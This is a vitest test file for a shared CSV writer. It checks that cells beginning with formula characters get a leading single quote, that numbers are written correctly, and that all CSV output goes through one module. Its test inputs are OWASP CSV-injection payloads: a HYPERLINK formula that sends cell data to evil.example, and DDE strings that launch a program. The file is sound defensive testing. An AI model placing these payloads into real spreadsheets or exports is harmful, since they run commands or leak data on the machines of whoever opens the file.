import { readdirSync, readFileSync } from 'node:fs';
import { join } from 'node:path';

import { parse } from 'csv-parse/sync';
import { describe, expect, it } from 'vitest';

import { csvCell, csvDocument, csvNumber } from '../../../shared/report/csv.js';

/** Plain rows of cells, header included. */
const parseRows = (text: string): unknown[] => parse(text);

// OWASP "CSV Injection": the payloads of issue 12 §5 and one per dangerous first character.
const LIVE = [
  '=HYPERLINK("http://evil.example/?x="&A1,"click")',
  '@SUM(1+1)',
  "+cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  '\t=1+1',
  '\r=1+1',
];

describe('the shared CSV writer', () => {
  it.each(LIVE)('prefixes a single quote to the text cell %j', (payload) => {
    expect(csvCell(payload)).toBe(`'${payload}`);
    const [row] = parseRows(csvDocument(['name'], [[payload]])).slice(1);
    expect(row).toEqual([`'${payload}`]);
  });

  it('leaves ordinary text, and a quote or a formula character inside the text, alone', () => {
    for (const text of ['HR Assistant', 'a=b', "it's", 'R&D <Labs>', '(none)', ''])
      expect(csvCell(text)).toBe(text);
  });

  it('writes numbers we computed as numbers, negative ones included', () => {
    expect(csvCell(-12)).toBe('-12');
    expect(csvCell(-5n)).toBe('-5');
    expect(csvCell(csvNumber('-1.250000000'))).toBe('-1.250000000');
    expect(csvCell(null)).toBe('');
    // A negative number that arrives as text (from a name, a tag) is text, and neutralised.
    expect(csvCell('-1.25')).toBe("'-1.25");
    expect(() => csvNumber('-1+1')).toThrow('not a plain decimal');
    expect(() => csvNumber('=1')).toThrow('not a plain decimal');
  });

  it('quotes commas, quotes and line breaks, and neutralises the header too', () => {
    const text = csvDocument(['=h', 'b'], [['a, "b"\nc', 1]]);
    expect(parseRows(text)).toEqual([
      ["'=h", 'b'],
      ['a, "b"\nc', '1'],
    ]);
  });

  it('is the only module that writes CSV (every CSV goes through it)', () => {
    const roots = ['shared', 'functions', 'cli', 'local', 'demo'];
    const writers: string[] = [];
    const walk = (dir: string) => {
      for (const entry of readdirSync(dir, { withFileTypes: true })) {
        const path = join(dir, entry.name);
        if (entry.isDirectory()) walk(path);
        else if (
          /\.ts$/.test(entry.name) &&
          /csv-stringify|from 'csv-stringify/.test(readFileSync(path, 'utf8'))
        )
          writers.push(path);
      }
    };
    for (const root of roots) walk(root);
    expect(writers).toEqual([join('shared', 'report', 'csv.ts')]);
  });
});
